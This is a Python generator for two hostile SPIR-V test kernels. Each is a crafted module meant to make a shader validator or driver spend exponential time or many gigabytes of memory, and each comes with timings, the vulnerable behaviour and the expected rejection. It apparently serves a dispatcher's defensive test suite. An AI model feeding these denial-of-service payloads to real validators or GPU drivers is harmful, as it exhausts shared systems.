#!/usr/bin/env python3
"""Generates the hostile kernels that are impractical to write by hand.

Usage: gen_hostile.py OUTDIR (build.sh calls it). Standard library only;
the output is deterministic, so the committed .spv files can be compared
with a fresh build.

hostile_spirv_val_bomb.spv
    Attack (issue 8, second gate): a 2 KB module whose cost in a layout
    validator grows exponentially. S_0 = uint, S_k = struct { S_(k-1) a;
    S_(k-1) b; } with explicit offsets, for k up to 30 (the deepest whose
    offsets fit in 32 bits); S_30 is the Block of a push-constant variable.
    Walking the type as a tree (not as a DAG) visits 2^30 leaves:
    `spirv-val --target-env vulkan1.1` takes about 1 s at depth 20 and about
    twice as long per level (4.5 s at 22, 21 s at 24, 37 s at 25), so depth
    30 is tens of minutes, in 5 MB of memory; the dispatcher's own
    `type_size` (depth limit 32) walks it the same way.
    Vulnerable dispatcher: runs its own sizing and then the Khronos
    validator on it, unbounded, on the agent's thread.
    Right outcome: rejected quickly (sizes computed once per type, a budget
    on nesting and total work) before the Khronos validator sees it, and
    the Khronos validator, when it runs, is bounded in time and memory.

hostile_spirv_val_memory_bomb.spv
    Attack (issue 8, second gate): a 256 KB module declaring 16384 nested
    array types A_0 = uint, A_k = A_(k-1)[1], used by no variable. Memory
    and time of `spirv-val --target-env vulkan1.1` grow with the square of
    the depth (about 12 bytes x depth^2: 0.8 GB and 2 s at 8000, 3.1 GB at
    16000; 20000 exceeds 6 GiB, and the 1 MiB kernel limit allows 65000
    levels, about 50 GB). The type is never used, so a validator that only
    sizes variables passes it to the driver.
    Vulnerable dispatcher: hands it to spirv-val or to the driver as is.
    Right outcome: rejected by the dispatcher's own structural limits
    (nesting depth of every declared type) before either sees it.
"""

import struct
import sys

OP = {
    "Capability": 17, "MemoryModel": 14, "EntryPoint": 15, "ExecutionMode": 16,
    "Decorate": 71, "MemberDecorate": 72, "TypeVoid": 19, "TypeInt": 21,
    "TypeArray": 28, "TypeRuntimeArray": 29, "TypeStruct": 30, "TypePointer": 32,
    "TypeFunction": 33, "Constant": 43, "Variable": 59, "Function": 54,
    "FunctionEnd": 56, "Label": 248, "Return": 253, "AccessChain": 65, "Store": 62,
}
# Enumerants used below.
SHADER, LOGICAL, GLSL450, GLCOMPUTE, LOCAL_SIZE = 1, 0, 1, 5, 17
BLOCK, ARRAY_STRIDE, BINDING, DESCRIPTOR_SET, OFFSET = 2, 6, 33, 34, 35
STORAGE_BUFFER, PUSH_CONSTANT = 12, 9


def string(text):
    b = text.encode() + b"\0"
    b += b"\0" * (-len(b) % 4)
    return list(struct.unpack("<%dI" % (len(b) // 4), b))


class Module:
    """SPIR-V 1.3 compute module: main, LocalSize 1, storage buffer uint[] at binding 0."""

    def __init__(self):
        self.bound = 1
        self.head, self.deco, self.types, self.code = [], [], [], []
        self.main = self.new_id()
        self.emit(self.head, "Capability", SHADER)
        self.emit(self.head, "MemoryModel", LOGICAL, GLSL450)
        self.emit(self.head, "EntryPoint", GLCOMPUTE, self.main, *string("main"))
        self.emit(self.head, "ExecutionMode", self.main, LOCAL_SIZE, 1, 1, 1)
        self.void = self.type("TypeVoid")
        self.fn = self.type("TypeFunction", self.void)
        self.uint = self.type("TypeInt", 32, 0)
        self.zero = self.constant(0)
        self.one = self.constant(1)
        rta = self.type("TypeRuntimeArray", self.uint)
        self.emit(self.deco, "Decorate", rta, ARRAY_STRIDE, 4)
        block = self.type("TypeStruct", rta)
        self.emit(self.deco, "Decorate", block, BLOCK)
        self.emit(self.deco, "MemberDecorate", block, 0, OFFSET, 0)
        ptr = self.type("TypePointer", STORAGE_BUFFER, block)
        self.ptr_uint = self.type("TypePointer", STORAGE_BUFFER, self.uint)
        self.out = self.variable(ptr, STORAGE_BUFFER)
        self.emit(self.deco, "Decorate", self.out, DESCRIPTOR_SET, 0)
        self.emit(self.deco, "Decorate", self.out, BINDING, 0)

    def new_id(self):
        self.bound += 1
        return self.bound - 1

    def emit(self, section, name, *operands):
        section.append(((len(operands) + 1) << 16) | OP[name])
        section.extend(operands)

    def type(self, name, *operands):
        r = self.new_id()
        self.emit(self.types, name, r, *operands)
        return r

    def constant(self, value):
        r = self.new_id()
        self.emit(self.types, "Constant", self.uint, r, value)
        return r

    def variable(self, ptr, storage_class):
        r = self.new_id()
        self.emit(self.types, "Variable", ptr, r, storage_class)
        return r

    def words(self):
        """The module; main stores 1 into out[0]."""
        code = []
        self.emit(code, "Function", self.void, self.main, 0, self.fn)
        self.emit(code, "Label", self.new_id())
        element = self.new_id()
        self.emit(code, "AccessChain", self.ptr_uint, element, self.out, self.zero, self.zero)
        self.emit(code, "Store", element, self.one)
        self.emit(code, "Return")
        self.emit(code, "FunctionEnd")
        header = [0x07230203, 0x00010300, 0, self.bound, 0]
        return header + self.head + self.deco + self.types + code


def spirv_val_bomb(depth=30):
    m = Module()
    t, size = m.uint, 4
    for _ in range(depth):
        s = m.type("TypeStruct", t, t)
        m.emit(m.deco, "MemberDecorate", s, 0, OFFSET, 0)
        m.emit(m.deco, "MemberDecorate", s, 1, OFFSET, size)
        t, size = s, size * 2
    m.emit(m.deco, "Decorate", t, BLOCK)
    m.variable(m.type("TypePointer", PUSH_CONSTANT, t), PUSH_CONSTANT)
    return m.words()


def spirv_val_memory_bomb(depth=16384):
    m = Module()
    t = m.uint
    for _ in range(depth):
        t = m.type("TypeArray", t, m.one)
    return m.words()


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "."
    for name, words in (
        ("hostile_spirv_val_bomb", spirv_val_bomb()),
        ("hostile_spirv_val_memory_bomb", spirv_val_memory_bomb()),
    ):
        with open("%s/%s.spv" % (out, name), "wb") as f:
            f.write(struct.pack("<%dI" % len(words), *words))


if __name__ == "__main__":
    main()
